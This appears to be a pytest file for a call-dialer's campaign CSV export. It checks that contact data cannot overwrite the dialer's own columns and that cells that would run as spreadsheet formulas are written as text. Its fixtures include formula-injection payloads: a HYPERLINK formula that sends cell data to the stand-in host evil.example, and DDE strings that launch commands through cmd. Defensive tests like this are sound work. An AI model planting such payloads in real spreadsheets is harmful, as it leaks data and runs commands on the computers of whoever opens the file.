"""The campaign export: the dialer's own columns cannot be overwritten by a contact's, and
no cell that comes from a contact runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from tests.unit.standins import VOICE_URL
from worker.domain.exports import OWN_COLUMNS, safe_cell
from worker.engine.context import Context
from worker.producer.campaigns import create_campaign, export_rows, write_export
from worker.producer.jobs import get_job

TO = "+14155550123"


def exported(ctx: Context, campaign_id: str) -> list[dict[str, str]]:
    out = io.StringIO()
    write_export(ctx, campaign_id, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_a_contact_column_named_like_an_own_column_is_exported_beside_it(engine_ctx: Context):
    contact = {"to": TO, **{name: f"contact {name}" for name in OWN_COLUMNS if name != "to"}}
    result = create_campaign(engine_ctx, "clash", contacts=[contact], url=VOICE_URL)

    (row,) = exported(engine_ctx, result.campaign_id)
    job = get_job(engine_ctx, row["job_id"])
    assert job is not None and job.to == TO and job.campaign_id == result.campaign_id
    assert (row["to"], row["state"], row["attempts"], row["last_outcome"],
            row["talk_time_s"]) == (TO, "scheduled", "0", "", "0")
    assert row["answered_by"] == row["recording_url"] == row["recording_duration"] == ""
    for name in OWN_COLUMNS:
        if name != "to":
            assert row[f"contact.{name}"] == f"contact {name}"
    (stored,) = export_rows(engine_ctx, result.campaign_id)
    assert list(stored)[:len(OWN_COLUMNS)] == list(OWN_COLUMNS)


def test_the_export_has_its_own_columns_first_even_with_no_contact(engine_ctx: Context):
    result = create_campaign(engine_ctx, "empty", contacts=[{"to": "12345"}], url=VOICE_URL)
    out = io.StringIO()
    assert write_export(engine_ctx, result.campaign_id, out) == 0
    assert out.getvalue().strip() == ",".join(OWN_COLUMNS)


FORMULAS = {
    "link": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "-2+3+cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
READABLE = {"negative": "-5", "decimal": "-2.5", "phone": "+14155550199", "plain": "Ann",
            "inner": "a=b", "empty": ""}


def test_cells_that_would_run_as_formulas_are_written_as_text(engine_ctx: Context):
    result = create_campaign(engine_ctx, "formulas", contacts=[{"to": TO, **FORMULAS,
                                                                **READABLE}], url=VOICE_URL)
    (row,) = exported(engine_ctx, result.campaign_id)
    for name, value in FORMULAS.items():
        assert row[f"contact.{name}"] == "'" + value, name
    for name, value in READABLE.items():
        assert row[f"contact.{name}"] == value, name
    assert row["to"] == TO  # a +E.164 number in the dialer's own column stays readable
    (stored,) = export_rows(engine_ctx, result.campaign_id)
    assert stored["contact.link"] == FORMULAS["link"]  # the Python rows are the stored values


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"), ("+", "'+"), ("-5.", "'-5."),
    ("-5", "-5"), ("+5", "+5"), ("-0.25", "-0.25"), ("+14155550123", "+14155550123"),
    ("5", "5"), ("x=1", "x=1"), (" =1", " =1"), (-5, -5), (None, None),
])
def test_safe_cell(value: object, written: object):
    assert safe_cell(value) == written
